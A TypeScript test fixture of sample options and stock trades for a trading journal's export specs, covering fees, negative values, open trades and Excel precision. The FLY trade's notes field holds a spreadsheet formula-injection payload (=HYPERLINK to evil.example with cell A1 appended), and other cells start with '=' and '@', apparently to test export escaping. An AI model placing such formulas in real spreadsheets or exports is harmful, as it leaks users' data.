import type { Execution } from '../executions/executions.repository.js';
import type { Trade } from '../trades/trades.repository.js';

/**
 * Trades and fills the export specs write and read back: a 1-2-1 SPXW call butterfly whose fees
 * carry a fraction of a cent, a losing stock trade (negative money must stay numeric), an open
 * trade (empty close and risk), and a trade too large for Excel's 15 digits.
 */
export const SAMPLE_TAG_NAMES: ReadonlyMap<string, string> = new Map([
  ['tag-1', '0DTE'],
  ['tag-2', '=formula tag'],
]);

/**
 * The fly: 4 contracts each way at $0.65 commission = 2 × 4 × 0.65 = $5.20, plus one $0.0125
 * regulatory fee → fees $5.2125; gross $250 (2.50 points × 100 × 1 fly) → net 250 − 5.2125 = $244.7875.
 */
export const FLY: Trade = {
  id: 'trade-fly',
  logId: 'log-1',
  symbol: 'SPXW',
  strategy: 'butterfly',
  side: 'long',
  quantityMicros: 1_000_000,
  // 2026-03-09 13:30 UTC is 09:30 in New York, the first Monday of daylight time (UTC−4).
  openedAt: Date.UTC(2026, 2, 9, 13, 30, 0),
  closedAt: Date.UTC(2026, 2, 9, 19, 45, 30, 250),
  status: 'closed',
  grossMicros: 250_000_000,
  feesMicros: 5_212_500,
  netMicros: 244_787_500,
  riskMicros: 150_000_000,
  notes: '=HYPERLINK("https://evil.example/?"&A1,"x") then, "quoted" café\nsecond line',
  marketAtEntry: { spot: 5901.25, vix: 14.2 },
  legs: [
    { id: 'leg-a', legIndex: 0, instrumentKind: 'option', symbol: 'SPXW', expiry: '2026-03-09', strikeMicros: 5_890_000_000, optionRight: 'C', side: 'buy', quantityMicros: 1_000_000, openPriceMicros: 14_500_000, closePriceMicros: 15_000_000, multiplierMicros: 100_000_000, fills: [{ executionId: 'exec-1', quantityMicros: 1_000_000 }] },
    { id: 'leg-b', legIndex: 1, instrumentKind: 'option', symbol: 'SPXW', expiry: '2026-03-09', strikeMicros: 5_900_000_000, optionRight: 'C', side: 'sell', quantityMicros: 2_000_000, openPriceMicros: 9_250_000, closePriceMicros: 7_500_000, multiplierMicros: 100_000_000, fills: [] },
    { id: 'leg-c', legIndex: 2, instrumentKind: 'option', symbol: 'SPXW', expiry: '2026-03-09', strikeMicros: 5_910_000_000, optionRight: 'C', side: 'buy', quantityMicros: 1_000_000, openPriceMicros: 5_500_000, closePriceMicros: 2_500_000, multiplierMicros: 100_000_000, fills: [] },
  ],
  tagIds: ['tag-1', 'tag-2'],
  createdAt: Date.UTC(2026, 2, 9, 20, 0),
  updatedAt: Date.UTC(2026, 2, 9, 20, 0),
};

/** 100 NVDA bought at 120.00 and sold at 119.8875: gross −11.25, fees 1.25 → net −12.50. */
export const LOSER: Trade = {
  ...FLY,
  id: 'trade-loser',
  symbol: 'NVDA',
  strategy: 'single',
  // 2026-01-15 14:30 UTC is 09:30 in New York in standard time (UTC−5).
  openedAt: Date.UTC(2026, 0, 15, 14, 30),
  closedAt: Date.UTC(2026, 0, 15, 15, 0),
  quantityMicros: 100_000_000,
  grossMicros: -11_250_000,
  feesMicros: 1_250_000,
  netMicros: -12_500_000,
  riskMicros: null,
  notes: '',
  marketAtEntry: null,
  legs: [{ id: 'leg-n', legIndex: 0, instrumentKind: 'stock', symbol: 'NVDA', expiry: null, strikeMicros: null, optionRight: null, side: 'buy', quantityMicros: 100_000_000, openPriceMicros: 120_000_000, closePriceMicros: 119_887_500, multiplierMicros: 1_000_000, fills: [] }],
  tagIds: [],
};

export const STILL_OPEN: Trade = { ...LOSER, id: 'trade-open', status: 'open', closedAt: null, grossMicros: 0, feesMicros: 650_000, netMicros: -650_000, legs: [] };

/** $1,234,567,890.123456: 16 significant digits, more than an Excel number keeps. */
export const HUGE: Trade = { ...LOSER, id: 'trade-huge', grossMicros: 1_234_567_890_123_456, feesMicros: 0, netMicros: 1_234_567_890_123_456 };

/** The fly's first leg as filled: commission 0.65 + exchange 0.0125 + clearing 0.02 = total fees 0.6825. */
export const FILL: Execution = {
  id: 'exec-1',
  logId: 'log-1',
  broker: 'thinkorswim',
  sourceFile: 'statement.csv',
  rowHash: 'abc123',
  account: '@acct-1',
  orderId: '1001',
  comboId: 'spread-7',
  brokerExecutionId: null,
  event: 'fill',
  executedAt: Date.UTC(2026, 2, 9, 13, 30, 0),
  executedAtText: '3/9/26 09:30:00',
  timeZone: 'America/New_York',
  currency: 'USD',
  instrumentKind: 'option',
  symbol: 'SPXW 260309C5890',
  underlying: 'SPX',
  expiry: '2026-03-09',
  strikeMicros: 5_890_000_000,
  optionRight: 'C',
  side: 'buy',
  positionEffect: 'open',
  quantityMicros: 1_000_000,
  priceMicros: 14_500_000,
  multiplierMicros: 100_000_000,
  commissionMicros: 650_000,
  exchangeFeeMicros: 12_500,
  clearingFeeMicros: 20_000,
  createdAt: Date.UTC(2026, 2, 9, 20, 0),
};

/** The same leg removed at expiration: price 0, no fees, no account, order or combo (empty cells). */
export const EXPIRY: Execution = { ...FILL, id: 'exec-2', rowHash: 'def456', account: null, orderId: null, comboId: null, event: 'expiration', side: 'sell', positionEffect: 'close', priceMicros: 0, commissionMicros: 0, exchangeFeeMicros: 0, clearingFeeMicros: 0, executedAt: Date.UTC(2026, 2, 9, 21, 15), executedAtText: '3/9/26 17:15:00' };
